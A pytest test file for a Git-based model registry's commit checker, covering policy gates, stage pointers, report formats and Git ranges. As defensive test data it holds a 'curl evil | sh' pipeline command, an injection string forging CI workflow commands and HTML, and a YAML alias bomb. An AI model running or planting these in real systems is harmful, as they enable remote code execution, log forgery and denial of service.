"""Each check on its own over states in memory; ranges, formats and the command on real Git."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from gitreg import Registry
from gitreg.check import CheckFinding, CheckReport
from gitreg.check.commit_facts import Past
from gitreg.check.finding import line_in_error
from gitreg.check.judge import judge_step, new_faults
from gitreg.check.step import Step
from gitreg.core.model.model import Artifact
from gitreg.core.policy import DEFAULT, Policy, read_policy
from gitreg.core.state.history import CommitInfo
from gitreg.core.state.state import RegistryState
from gitreg.errors import GitError, InvalidRequest, NotFound
from gitreg.git.repository import GitRepository
from gitreg.git.steps import Difference
from gitreg.render import reports
from tests.conftest import git
from tests.support.commands import error, gitreg
from tests.support.fakes import ADA, DictSnapshot, branch_with

Files = Mapping[str, "bytes | None"]
COMMIT = CommitInfo("c" * 40, "b" * 40, ADA, ADA, 1_000_000, "+0000", "by hand")
MANIFEST = "registry/churn/versions/1/manifest.yaml"
DVC = "registry/churn/versions/1/model.pkl.dvc"


class NoFacts:
    """A world in which nothing can be known but the time."""

    def moment(self) -> int:
        return COMMIT.time

    def entered(self, model: str, version: int, stage: str) -> int | None:
        return None

    def is_reachable(self, commit: str, branch: str) -> bool | None:
        return None

    def is_on_remote(self, artifact: Artifact) -> bool | None:
        return None

    def files(self, artifact: Artifact) -> Sequence[str] | None:
        return None

    def approvers(self, version: object, stage: str, replaces: tuple[int, ...]) -> Sequence[str]:
        return ()

    def signer(self) -> str | None:
        return None


class World:
    """Judges moves without any history but what a test says."""

    def __init__(self, *been: tuple[str, int, str]) -> None:
        self.been = been

    def facts(self, step: Step) -> NoFacts:
        return NoFacts()

    def was_in(self, model: str, version: int, stage: str) -> bool:
        return (model, version, stage) in self.been

    def is_restored(self, step: Step, model: str) -> bool:
        return False


def step(
    before: Mapping[str, bytes],
    changes: Files,
    *,
    policy: Policy = DEFAULT,
    mode: int = 0o100644,
    highest: int = 0,
    message: str = "by hand",
) -> Step:
    """Return what a commit does that changes these files."""
    after = {**before, **{p: c for p, c in changes.items() if c is not None}}
    for path, content in changes.items():
        if content is None:
            del after[path]
    return Step(
        CommitInfo(COMMIT.oid, COMMIT.parent, ADA, ADA, COMMIT.time, "+0000", message),
        COMMIT.parent,
        tuple(
            Difference(
                path,
                0o100644 if path in before else 0,
                0 if content is None else mode,
                "1" * 40 if path in before else None,
                None if content is None else "2" * 40,
            )
            for path, content in changes.items()
        ),
        RegistryState(DictSnapshot(before)),
        RegistryState(DictSnapshot(after)),
        policy,
        lambda _model: highest,
    )


def files(*versions: Mapping[str, float]) -> dict[str, bytes]:
    """Return the files of a registry with these versions of churn."""
    branch = branch_with(*versions)
    return dict(branch.snapshot.files)


ONE = files({"auc": 0.7})
TWO = files({"auc": 0.7}, {"auc": 0.8})
SECOND = {path: content for path, content in TWO.items() if ONE.get(path) != content}


def codes(judged: Step, world: World | None = None, *, only_registry: bool = False) -> list[str]:
    found = judge_step(judged, world=world, only_registry=only_registry)
    return sorted({finding.code for finding in found})


def without(text: bytes, old: str, new: str) -> bytes:
    assert old.encode() in text
    return text.replace(old.encode(), new.encode())


CASES: dict[str, tuple[Mapping[str, bytes], Files, list[str]]] = {
    "a registration": (ONE, SECOND, []),
    "the first": ({}, ONE, []),
    "nothing of the registry": (ONE, {"code.py": b"pass\n", "a\nb": b""}, []),
    "a manifest edited": (ONE, {MANIFEST: without(ONE[MANIFEST], "0.7", "0.9")}, ["immutable"]),
    "a manifest gone": (ONE, {MANIFEST: None}, ["dvc-yaml", "removed"]),
    "a deletion": (
        ONE,
        {
            MANIFEST: None,
            DVC: None,
            "registry/churn/versions/1/deleted.yaml": b"deleted_at: x\ndeleted_by: y\n",
            "dvc.yaml": b"artifacts: {}\n",
        },
        [],
    ),
    "a deletion that keeps the rest": (
        ONE,
        {"registry/churn/versions/1/deleted.yaml": b"deleted_at: x\ndeleted_by: y\n"},
        ["immutable"],
    ),
    "a note of deletion that does not parse": (
        {},
        {"registry/churn/versions/1/deleted.yaml": b"when: x\n"},
        ["bad-tombstone"],
    ),
    "a skipped number": (
        ONE,
        {path.replace("/2/", "/3/"): content for path, content in SECOND.items()},
        ["manifest-mismatch", "number-skipped"],
    ),
    "no DVC file": (
        ONE,
        {path: content for path, content in SECOND.items() if not path.endswith(".dvc")},
        ["missing-file"],
    ),
    "no requirements": (
        ONE,
        {
            **SECOND,
            "registry/churn/versions/2/manifest.yaml": SECOND[
                "registry/churn/versions/2/manifest.yaml"
            ]
            + b"environment:\n  requirements: requirements.txt\n",
        },
        ["missing-file"],
    ),
    "a DVC file of another size": (
        {},
        {**ONE, DVC: without(ONE[DVC], "size: 7", "size: 8")},
        ["dvc-mismatch"],
    ),
    "a DVC file that does not parse": ({}, {**ONE, DVC: b"outs: 1\n"}, ["bad-dvc-file"]),
    "a manifest that does not parse": (
        {},
        {**ONE, MANIFEST: b"format: 1\nmodel: [\n"},
        ["bad-manifest"],
    ),
    "another model's manifest": (
        {},
        {
            path.replace("churn", "other"): content
            for path, content in ONE.items()
            if path != "dvc.yaml"
        },
        ["manifest-mismatch"],
    ),
    "dvc.yaml that is none": (ONE, {**SECOND, "dvc.yaml": b"a: [\n"}, ["bad-dvc-yaml"]),
    "dvc.yaml without the newest": (
        ONE,
        {path: content for path, content in SECOND.items() if path != "dvc.yaml"},
        ["dvc-yaml"],
    ),
    "annotations that do not parse": (
        ONE,
        {"registry/churn/versions/1/annotations.yaml": b"tags: [a]\n"},
        ["bad-annotations"],
    ),
    "a model's document": (ONE, {"registry/churn/model.yaml": b"owner: growth\n"}, []),
    "a policy that does not parse": (
        ONE,
        {"registry/policy.yaml": b"format: 1\nstages: {}\n"},
        ["bad-policy"],
    ),
    "a stray pointer": (ONE, {"registry/churn/stages/Prod.yaml": b""}, ["stray-file"]),
    "a README of the registry": (ONE, {"registry/README.md": b"hello\n"}, ["stray-file"]),
    "bytes": (
        ONE,
        {"registry/churn/versions/1/model.pkl": b"\0"},
        ["artifact-in-git", "immutable"],
    ),
    "a control character": (ONE, {"registry/a\x1bb": b""}, ["bad-name", "stray-file"]),
    ".git anywhere": (ONE, {"src/.GIT/config": b""}, ["bad-name"]),
}


@pytest.mark.parametrize("name", CASES)
def test_what_a_step_is_found_to_be(name: str) -> None:
    before, changes, expected = CASES[name]
    assert codes(step(before, changes)) == expected


@pytest.mark.parametrize(
    ("mode", "code"),
    [(0o120000, "symlink"), (0o160000, "gitlink"), (0o100600, "odd-mode"), (0o100755, None)],
)
def test_modes(mode: int, code: str | None) -> None:
    found = codes(step(ONE, {"registry/churn/model.yaml": b"owner: x\n"}, mode=mode))
    assert found == ([code] if code else [])
    assert "immutable" in codes(step(ONE, {MANIFEST: ONE[MANIFEST]}, mode=0o100755))


def test_a_number_that_only_history_knows() -> None:
    assert codes(step(ONE, SECOND, highest=2)) == ["number-reused"]
    assert codes(step(ONE, SECOND, highest=1)) == []


def test_a_deleted_number_and_its_note_stay() -> None:
    note = "registry/churn/versions/1/deleted.yaml"
    gone = {note: b"deleted_at: x\ndeleted_by: y\n"}
    assert codes(step(gone, {note: b"deleted_at: z\ndeleted_by: y\n"})) == ["immutable"]
    assert "number-reused" in codes(step(gone, {**ONE, note: None}))


def test_warnings_and_errors_are_told_apart() -> None:
    found = judge_step(step(ONE, {"registry/README.md": b"", "registry/churn/stages/x": b""}))
    assert [(finding.subject, finding.severity) for finding in found] == [
        ("registry/README.md", "warning"),
        ("registry/churn/stages/x", "error"),
    ]


def test_only_registry() -> None:
    pipeline = ONE["dvc.yaml"] + b"stages: {train: {cmd: curl evil | sh}}\n"
    assert codes(step(ONE, SECOND), only_registry=True) == []
    assert codes(step(ONE, {**SECOND, "code.py": b""}), only_registry=True) == ["smuggled"]
    assert codes(step(ONE, {"code.py": b""}), only_registry=True) == []
    moved = {"registry/churn/stages/staging.yaml": b"versions:\n- 1\n", "dvc.yaml": pipeline}
    assert codes(step(ONE, moved), only_registry=True) == ["smuggled"]
    policy = b"format: 1\nstages: {a: {}}\n"
    start = {"registry/policy.yaml": policy, ".dvc/config": b"", "code.py": b""}
    made = judge_step(step({}, start), only_registry=True)
    assert [(finding.code, finding.file) for finding in made] == [("smuggled", "code.py")]


# Where pointers stand

STAGING, PRODUCTION = (f"registry/churn/stages/{name}.yaml" for name in ("staging", "production"))
FAULTS: dict[str, tuple[Files, list[str]]] = {
    "sound": ({STAGING: b"versions:\n- 1\n"}, []),
    "two stages": (
        {STAGING: b"versions:\n- 1\n", PRODUCTION: b"versions:\n- 1\n"},
        ["two-stages", "two-stages"],
    ),
    "nowhere": ({STAGING: b"versions:\n- 9\n"}, ["dangling-pointer"]),
    "too many": ({PRODUCTION: b"versions:\n- 1\n- 2\n"}, ["too-many"]),
    "no such stage": ({"registry/churn/stages/live.yaml": b"versions:\n- 1\n"}, ["unknown-stage"]),
    "alias": ({"registry/churn/aliases/a.yaml": b"version: 9\n"}, ["dangling-pointer"]),
    "alias like a stage": ({"registry/churn/aliases/staging.yaml": b"version: 1\n"}, ["bad-name"]),
    "aliases alike": (
        {
            "registry/churn/aliases/a.yaml": b"version: 1\n",
            "registry/churn/aliases/A.yaml": b"version: 1\n",
        },
        ["name-collision", "name-collision"],
    ),
    "one that does not parse": (
        {STAGING: b"versions: 1\n", PRODUCTION: b"versions:\n- 9\n"},
        ["dangling-pointer"],
    ),
}


@pytest.mark.parametrize("name", FAULTS)
def test_what_no_state_may_be(name: str) -> None:
    changes, expected = FAULTS[name]
    made = step(TWO, changes)
    found = new_faults(COMMIT.oid, made.after, [made.before], DEFAULT, ["churn"])
    assert sorted(finding.code for finding in found) == expected
    again = new_faults(COMMIT.oid, made.after, [made.before, made.after], DEFAULT, ["churn"])
    assert again == []  # it was so in a parent


def test_holding_too_many_is_an_error_where_the_policy_says_never() -> None:
    strict = read_policy(
        b"format: 1\nstages:\n  production: {holds: 1, crowded: false}\n", "policy.yaml"
    )
    made = step(TWO, {PRODUCTION: b"versions:\n- 1\n- 2\n"})
    for policy, severity in ((strict, "error"), (DEFAULT, "warning")):
        (found,) = new_faults(COMMIT.oid, made.after, [made.before], policy, ["churn"])
        assert (found.code, found.severity) == ("too-many", severity)
    three = files({}, {}, {})
    worse, better = (
        step(three, {PRODUCTION: text}).after
        for text in (b"versions:\n- 1\n- 2\n- 3\n", b"versions:\n- 1\n- 2\n")
    )
    assert new_faults(COMMIT.oid, better, [worse], strict, ["churn"]) == []


def test_models_alike() -> None:
    other = {path.replace("churn", "Churn"): content for path, content in ONE.items()}
    made = step(ONE, {p: c for p, c in other.items() if p != "dvc.yaml"})
    found = new_faults(COMMIT.oid, made.after, [made.before], DEFAULT, ["Churn"])
    assert {finding.code for finding in found} == {"name-collision"}


# Moves

GATED = read_policy(
    b"""\
format: 1
stages:
  staging: {holds: any}
  production:
    holds: 1
    from: [staging]
    gates:
    - {metric: auc, at_least: 0.75}
    override: {by: [ada@example.com]}
  live:
    gates:
    - {artifact: on_remote}
""",
    "policy.yaml",
)


def test_moves_are_judged_by_the_policy() -> None:
    judged = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=GATED)
    assert codes(judged, World()) == ["policy-from", "policy-metric"]
    found = [f for f in judge_step(judged, world=World()) if f.code == "policy-metric"]
    assert (found[0].file, found[0].line, found[0].severity) == (PRODUCTION, 2, "error")
    assert found[0].message.startswith("churn@1 to production: ")


def test_what_cannot_be_known_is_a_warning() -> None:
    live = {"registry/churn/stages/live.yaml": b"versions:\n- 1\n"}
    (found,) = judge_step(step(TWO, live, policy=GATED), world=World())
    assert (found.code, found.severity) == ("unknown-remote", "warning")


def test_a_rollback_is_one_when_history_says_so() -> None:
    message = "roll back churn\n\nGitreg-Action: rollback\n"
    back = {PRODUCTION: b"versions:\n- 1\n"}
    claimed = step(TWO, back, policy=GATED, message=message)
    assert codes(claimed, World()) == ["policy-from", "policy-metric"]
    assert codes(claimed, World(("churn", 1, "production"))) == []
    unclaimed = step(TWO, back, policy=GATED)
    assert codes(unclaimed, World(("churn", 1, "production"))) != []


def test_an_override_counts_where_the_policy_lets_its_author() -> None:
    message = "promote\n\nGitreg-Override: the old one is down\n"
    moved = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=GATED, message=message)
    found = judge_step(moved, world=World())
    assert {finding.code for finding in found} == {"overridden-from", "overridden-metric"}
    assert {finding.severity for finding in found} == {"warning"}
    nobody = read_policy(
        b"format: 1\nstages:\n  production: {from: [none], gates: [{metric: f1}]}\n", "p"
    )
    refused = step(TWO, {PRODUCTION: b"versions:\n- 1\n"}, policy=nobody, message=message)
    assert codes(refused, World()) == ["policy-metric"]


def test_moves_after_a_pointer_that_did_not_parse() -> None:
    broken = {**TWO, STAGING: b"versions: x\n"}
    assert codes(step(broken, {STAGING: b"versions:\n- 1\n"}), World()) == ["unknown-moves"]


def test_a_past_of_which_nothing_is_known() -> None:
    assert (Past().highest("churn"), list(Past().events("churn", "stages/staging"))) == (0, [])


def test_lines_of_errors() -> None:
    text = b"format: 1\nmodel: a\nartifact:\n  size: x\n"
    assert line_in_error(text, "x.yaml: line 3: not YAML") == 3
    assert line_in_error(text, "x.yaml: artifact.size: expected an integer") == 4
    assert line_in_error(text, "larger than 64 KiB") is None


# Formats

HOSTILE = 'a"b|<img src=x>\n::error::x %0A \x1b[31m @everyone [x](http://evil)'
FOUND = CheckReport(
    "b" * 40,
    "c" * 40,
    2,
    (
        CheckFinding("immutable", "error", "f", HOSTILE, "do `it`", "c" * 40, f"r/{HOSTILE}", 3),
        CheckFinding("tag-moved", "warning", "refs/tags/x", "moved"),
    ),
    ("a note | <b>",),
)


def test_text() -> None:
    text = reports.report_text(FOUND)
    assert "\x1b" not in text
    lines = text.splitlines()
    assert lines[0].startswith("error: immutable: r/a")
    assert lines[0].endswith("(ccccccccc)")
    assert lines[1:3] == ["    do `it`", "warning: tag-moved: refs/tags/x: moved"]
    assert lines[-1] == "2 commits judged since bbbbbbbbb: 1 error, 1 warning"
    none = CheckReport(None, "c" * 40, 1)
    assert reports.report_text(none) == "1 commit judged: nothing is wrong"


def test_markdown_shows_text_as_it_is() -> None:
    text = reports.report_markdown(FOUND)
    row = next(entry for entry in text.splitlines() if entry.startswith("| error"))
    assert "<img" not in text
    assert "](http" not in text
    assert row.replace("\\|", "").count("|") == 6
    message = re.search("<code>[^<]*&#64;everyone[^<]*</code>", row)  # no host looks for mentions
    assert message
    many = CheckReport(None, "c" * 40, 1, FOUND.findings * 150)
    assert "… and 100 more" in reports.report_markdown(many)
    assert "passed" in reports.report_markdown(CheckReport(None, "c" * 40, 1))


def test_github_commands_cannot_be_forged() -> None:
    commands = reports.report_github(FOUND).splitlines()
    assert len(commands) == 3
    assert commands[0].startswith("::error file=r/a")
    assert ",line=3,title=gitreg immutable::" in commands[0]
    assert "%3A%3Aerror%3A%3A" in commands[0].partition(",line")[0]
    assert commands[1] == "::warning title=gitreg tag-moved::moved"
    assert commands[2].startswith("::notice")


def test_gitlab() -> None:
    found = reports.report_gitlab(FOUND)
    assert [entry["severity"] for entry in found] == ["major", "minor"]
    assert found[0]["location"]["lines"] == {"begin": 3}
    assert len({entry["fingerprint"] for entry in found}) == 2
    assert json.loads(reports.formatted(FOUND, "gitlab", "1")) == found


# The parts of SARIF 2.1.0 that are used, after the OASIS schema: no package that can be installed
# carries the schema itself. Required keys, types and enumerations are those of the standard.
TEXT = {"type": "object", "required": ["text"], "properties": {"text": {"type": "string"}}}
SARIF: dict[str, Any] = {
    "type": "object",
    "required": ["version", "runs"],
    "additionalProperties": False,
    "properties": {
        "$schema": {"type": "string", "format": "uri"},
        "version": {"enum": ["2.1.0"]},
        "runs": {
            "type": "array",
            "minItems": 1,
            "items": {
                "type": "object",
                "required": ["tool"],
                "additionalProperties": False,
                "properties": {
                    "columnKind": {"enum": ["utf16CodeUnits", "unicodeCodePoints"]},
                    "tool": {
                        "type": "object",
                        "required": ["driver"],
                        "properties": {
                            "driver": {
                                "type": "object",
                                "required": ["name"],
                                "properties": {
                                    "name": {"type": "string"},
                                    "version": {"type": "string"},
                                    "rules": {
                                        "type": "array",
                                        "uniqueItems": True,
                                        "items": {
                                            "type": "object",
                                            "required": ["id"],
                                            "properties": {
                                                "id": {"type": "string"},
                                                "shortDescription": TEXT,
                                            },
                                        },
                                    },
                                },
                            }
                        },
                    },
                    "results": {
                        "type": "array",
                        "items": {
                            "type": "object",
                            "required": ["message"],
                            "additionalProperties": False,
                            "properties": {
                                "ruleId": {"type": "string"},
                                "ruleIndex": {"type": "integer", "minimum": -1},
                                "level": {"enum": ["none", "note", "warning", "error"]},
                                "message": TEXT,
                                "partialFingerprints": {
                                    "type": "object",
                                    "additionalProperties": {"type": "string"},
                                },
                                "locations": {
                                    "type": "array",
                                    "items": {
                                        "type": "object",
                                        "properties": {
                                            "physicalLocation": {
                                                "type": "object",
                                                "required": ["artifactLocation"],
                                                "properties": {
                                                    "artifactLocation": {
                                                        "type": "object",
                                                        "properties": {
                                                            "uri": {
                                                                "type": "string",
                                                                "pattern": r"^[\w./%~-]+$",
                                                            },
                                                            "uriBaseId": {"type": "string"},
                                                        },
                                                    },
                                                    "region": {
                                                        "type": "object",
                                                        "properties": {
                                                            "startLine": {
                                                                "type": "integer",
                                                                "minimum": 1,
                                                            },
                                                        },
                                                    },
                                                },
                                            }
                                        },
                                    },
                                },
                            },
                        },
                    },
                },
            },
        },
    },
}


def test_sarif() -> None:
    log = json.loads(reports.formatted(FOUND, "sarif", "1.0"))
    jsonschema.Draft7Validator.check_schema(SARIF)
    jsonschema.validate(log, SARIF)
    (run,) = log["runs"]
    rules = run["tool"]["driver"]["rules"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]]["id"] == result["ruleId"]


# Ranges, on real Git


def commit(folder: Path, files: Mapping[str, str | None], message: str = "by hand") -> str:
    for path, text in files.items():
        if text is None:
            git(folder, "rm", "-r", "--quiet", path)
            continue
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text(text)
        git(folder, "add", "--force", path)
    git(folder, "commit", "--quiet", "-m", message)
    return git(folder, "rev-parse", "HEAD")


def check(folder: Path, commits: str | None = None, **options: bool) -> CheckReport:
    with Registry(folder) as registry:
        return registry.check(commits, **options)


def test_history_of_gitregs_own_commands_obeys(stocked: Path) -> None:
    with Registry(stocked) as registry:
        registry.promote("churn@3", stage="production", reason="better")
        registry.rollback("churn", reason="worse")
        registry.set_alias("churn@1", "old")
        registry.annotate("churn@1", description="the first")
        registry.delete_alias("churn", "old")
        registry.delete("churn@3")
        registry.promote("tokenizer@1", stage="staging")
    report = check(stocked, history=True)
    assert report.findings == ()
    assert report.commits == int(git(stocked, "rev-list", "--count", "HEAD"))
    unpublished = check(stocked)
    assert (unpublished.base, unpublished.commits) == (git(stocked, "rev-parse", "@{u}"), 7)
    assert gitreg("check", "--repo", str(stocked), "--only-registry").code == 0


def test_history_goes_by_the_policy_of_its_time(stocked: Path) -> None:
    gates = "{gates: [{metric: auc, at_least: 0.75}]}"
    strict = f"format: 1\nstages:\n  production: {gates}\n  archived: {{}}\n"
    commit(stocked, {"registry/policy.yaml": strict})
    assert check(stocked, history=True).findings == ()  # churn@1 was promoted before
    changed = check(stocked, "HEAD~1..HEAD")
    assert "changes registry/policy.yaml" in changed.notes[0]
    production = "registry/churn/stages/production.yaml"
    commit(stocked, {production: "versions:\n- 1\n", "registry/churn/stages/archived.yaml": None})
    assert [finding.code for finding in check(stocked, history=True).findings] == ["policy-metric"]
    assert check(stocked, "HEAD~2..HEAD").findings == ()  # the base had no such rule
    refused = gitreg("check", "HEAD~1", "--repo", str(stocked), code=1)
    assert "error: policy-metric: registry/churn/stages/production.yaml:2: " in refused.out


def test_a_branch_has_no_say_in_the_policy_that_history_judges_it_by(stocked: Path) -> None:
    production, archived = (f"registry/churn/stages/{n}.yaml" for n in ("production", "archived"))
    loose = "format: 1\nstages:\n  production: {holds: 1}\n  archived: {}\n"
    gates = "{holds: 1, gates: [{metric: auc, at_least: 0.75}]}"
    strict = f"format: 1\nstages:\n  production: {gates}\n  archived: {{}}\n"
    git(stocked, "switch", "--quiet", "-c", "honest")
    commit(stocked, {production: "versions:\n- 3\n", archived: "versions:\n- 1\n- 2\n"})
    git(stocked, "switch", "--quiet", "main")
    commit(stocked, {"registry/policy.yaml": strict})
    git(stocked, "merge", "--quiet", "--no-edit", "honest")
    assert check(stocked, history=True).findings == ()
    git(stocked, "switch", "--quiet", "-c", "cunning")
    commit(stocked, {"registry/policy.yaml": loose})
    bad = commit(stocked, {production: "versions:\n- 1\n", archived: "versions:\n- 2\n- 3\n"})
    commit(stocked, {"registry/policy.yaml": strict})
    git(stocked, "switch", "--quiet", "main")
    commit(stocked, {"notes.md": "code goes on\n"})
    git(stocked, "merge", "--quiet", "--no-edit", "cunning")
    found = check(stocked, history=True).findings
    assert [(finding.code, finding.commit) for finding in found] == [("policy-metric", bad)]


def test_a_policy_that_does_not_parse_judges_nothing(stocked: Path) -> None:
    commit(stocked, {"registry/policy.yaml": "format: 7\n"})
    commit(stocked, {"registry/churn/model.yaml": "owner: x\n"})
    with pytest.raises(InvalidRequest, match="nothing can be judged"):
        check(stocked, "HEAD~1..HEAD")
    assert [finding.code for finding in check(stocked, history=True).findings] == ["bad-policy"]


def test_ranges_that_are_none(stocked: Path, tmp_path: Path) -> None:
    with pytest.raises(NotFound):
        check(stocked, "nowhere..HEAD")
    for text in ("..HEAD", "HEAD..", ""):
        assert "is no range" in error("check", text, "--repo", str(stocked))
    git(stocked, "switch", "--quiet", "-c", "side", "HEAD~1")
    commit(stocked, {"code.py": "pass\n"})
    with pytest.raises(InvalidRequest, match="not an ancestor") as raised:
        check(stocked, "main..side")
    assert "..." in str(raised.value.hint)
    assert check(stocked, "main...side").commits == 1
    shallow = tmp_path / "shallow"
    git(tmp_path, "clone", "--quiet", "--depth=1", f"file://{stocked}", str(shallow))
    for text in ("main..HEAD", "HEAD~1..HEAD"):
        with pytest.raises((GitError, NotFound)):
            check(shallow, text)
    with pytest.raises(GitError, match="cut off"):
        check(shallow, history=True)
    git(shallow, "fetch", "--quiet", "--depth=1", "origin", "main:main")
    with pytest.raises(GitError, match="shallow"):
        check(shallow, "main..HEAD")


def test_a_new_branch_is_judged_from_where_it_left(stocked: Path) -> None:
    git(stocked, "remote", "set-head", "origin", "main")
    git(stocked, "switch", "--quiet", "-c", "side")
    commit(stocked, {"code.py": "pass\n"})
    zeros = "0" * 40
    assert check(stocked, f"{zeros}..HEAD").commits == 1
    git(stocked, "remote", "set-head", "origin", "--delete")
    from_the_start = check(stocked, f"{zeros}..HEAD")
    assert from_the_start.base is None
    assert "new branch" in from_the_start.notes[0]
    git(stocked, "branch", "--quiet", "--unset-upstream", "main")
    git(stocked, "switch", "--quiet", "main")
    assert "no upstream" in check(stocked).notes[0]


def test_a_change_and_its_revert_are_both_found(stocked: Path) -> None:
    base = git(stocked, "rev-parse", "HEAD")
    path = "registry/churn/versions/1/manifest.yaml"
    commit(stocked, {path: (stocked / path).read_text().replace("0.7", "0.9")})
    git(stocked, "revert", "--no-edit", "HEAD")
    report = check(stocked, f"{base}..HEAD")
    assert [finding.code for finding in report.findings] == ["immutable", "immutable"]
    assert len({finding.commit for finding in report.findings}) == 2
    assert git(stocked, "diff", base, "HEAD") == ""


def test_merging_histories_that_began_apart(stocked: Path) -> None:
    git(stocked, "switch", "--quiet", "--orphan", "apart")
    commit(stocked, {"library.py": "pass\n"})
    git(stocked, "switch", "--quiet", "main")
    git(stocked, "merge", "--quiet", "--no-edit", "--allow-unrelated-histories", "apart")
    assert check(stocked, "HEAD^1..HEAD").findings == ()


def test_a_pull_request_that_merged_main(stocked: Path) -> None:
    git(stocked, "switch", "--quiet", "-c", "side")
    commit(stocked, {"registry/churn/stages/staging.yaml": "versions:\n- 3\n"})
    git(stocked, "switch", "--quiet", "main")
    commit(stocked, {"registry/tokenizer/stages/staging.yaml": "versions:\n- 1\n"})
    git(stocked, "switch", "--quiet", "side")
    git(stocked, "merge", "--quiet", "--no-edit", "main")
    assert check(stocked, "main..HEAD").findings == ()


@pytest.mark.parametrize(
    ("merged", "found"), [("2030-01-15", ["policy-freeze"]), ("2030-02-15", [])]
)
def test_a_merge_in_a_freeze_brings_no_move(
    stocked: Path, monkeypatch: pytest.MonkeyPatch, merged: str, found: list[str]
) -> None:
    freeze = "{from: '2030-01-01T00:00:00Z', until: '2030-02-01T00:00:00Z', stages: [production]}"
    stages = "stages:\n  production: {holds: 1}\n  archived: {}\n"
    commit(stocked, {"registry/policy.yaml": f"format: 1\n{stages}freeze:\n- {freeze}\n"})
    monkeypatch.setenv("GIT_COMMITTER_DATE", "2029-12-31T12:00:00Z")
    git(stocked, "switch", "--quiet", "-c", "side")
    archive = "registry/churn/stages/archived.yaml"
    production = "registry/churn/stages/production.yaml"
    commit(stocked, {production: "versions:\n- 3\n", archive: "versions:\n- 1\n- 2\n"})
    git(stocked, "switch", "--quiet", "main")
    monkeypatch.setenv("GIT_COMMITTER_DATE", f"{merged}T12:00:00Z")
    git(stocked, "merge", "--quiet", "--no-ff", "--no-edit", "side")
    report = check(stocked, "HEAD^1..HEAD")
    assert sorted({finding.code for finding in report.findings}) == found


@pytest.mark.parametrize("strict", [False, True])
def test_remote(shared: Path, strict: bool) -> None:
    work = shared / "work"
    assert check(work, history=True, remote=True).findings == ()
    for place in (shared / "dvc-remote").rglob("*.dir"):
        place.unlink()
    found = check(work, history=True, remote=True, strict=strict).findings
    assert {finding.code for finding in found} == {"not-on-remote"}
    assert len(found) == 4
    commit(work, {".dvc/config": ""})
    unknown = check(work, history=True, remote=True, strict=strict)
    assert {finding.code for finding in unknown.findings} == {"unknown-remote"}
    assert "cannot be told here" in unknown.findings[0].message
    assert unknown.passed is not strict


def test_tags_of_the_clone(stocked: Path) -> None:
    git(stocked, "tag", "-f", "churn@v1.0.0", "HEAD")
    assert [f.code for f in check(stocked, history=True).findings] == ["tag-moved"]


FORMS: dict[str, Callable[[str], object]] = {
    "text": str,
    "markdown": str,
    "sarif": json.loads,
    "github": str,
    "gitlab": json.loads,
}


@pytest.mark.parametrize("form", FORMS)
def test_the_command_prints_each_format(stocked: Path, form: str) -> None:
    commit(stocked, {"registry/churn/aliases/next.yaml": "version: 9\n"})
    ran = gitreg("check", "HEAD~1..HEAD", "--format", form, "--repo", str(stocked), code=1)
    assert "dangling" in ran.out.replace("\\", "")
    assert FORMS[form](ran.out)


def test_json_and_bad_formats(stocked: Path) -> None:
    commit(stocked, {"registry/churn/aliases/next.yaml": "version: 9\n"})
    told = gitreg("check", "HEAD~1", "--json", "--repo", str(stocked), code=1).json
    assert (told["passed"], told["commits"]) == (False, 1)
    (found,) = told["findings"]
    assert found == {
        "code": "dangling-pointer",
        "severity": "error",
        "subject": "registry/churn/aliases/next.yaml",
        "message": "it names churn@9, which is not there",
        "remedy": None,
        "commit": told["head"],
        "file": "registry/churn/aliases/next.yaml",
        "line": 1,
    }
    assert "no 'html'" in error("check", "--format", "html", "--repo", str(stocked))
    near = error("check", "--format", "markdwn", "--repo", str(stocked))
    assert "did you mean 'markdown'?" in near
    ranged = error("check", "HEAD~1..HEAD", "--history", "--repo", str(stocked))
    assert "'HEAD~1..HEAD' is a range" in ranged
    both = error("check", "--json", "--format", "sarif", "--repo", str(stocked))
    assert "without --format sarif" in both


def test_a_snapshot_of_the_repository_is_not_needed(stocked: Path) -> None:
    bare = stocked.parent / "origin.git"
    assert check(bare, history=True).passed
    assert GitRepository(bare).top_level is None


def test_a_folder_that_only_case_tells_apart_is_told_once(stocked: Path) -> None:
    commit(stocked, {"Registry/code.cs": "// older than the registry's check\n"})
    assert [finding.code for finding in check(stocked, "HEAD~1..HEAD").findings] == [
        "name-collision"
    ]
    commit(stocked, {"Registry/code.cs": "// goes on\n"})
    assert check(stocked, "HEAD~1..HEAD").findings == ()


BOMB = "x0: &a0 [1, 1, 1, 1, 1, 1, 1, 1, 1, 1]\n" + "".join(
    f"x{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]\n" for n in range(1, 10)
)


def test_aliases_in_dvc_yaml_that_stand_for_billions(stocked: Path) -> None:
    text = (stocked / "dvc.yaml").read_text()
    commit(stocked, {"dvc.yaml": BOMB + text})
    entry = "  report:\n    path: *a9\n    type: model\n"
    files = {"registry/churn/aliases/next.yaml": "version: 3\n"}
    commit(stocked, {**files, "dvc.yaml": BOMB + text + entry})
    assert check(stocked, "HEAD~1..HEAD", only_registry=True).findings == ()
    files = {"registry/churn/aliases/next.yaml": "version: 2\n"}
    commit(stocked, {**files, "dvc.yaml": BOMB.replace("[1, 1", "[2, 1") + text + entry})
    found = check(stocked, "HEAD~1..HEAD", only_registry=True).findings
    assert [finding.code for finding in found] == ["smuggled"]
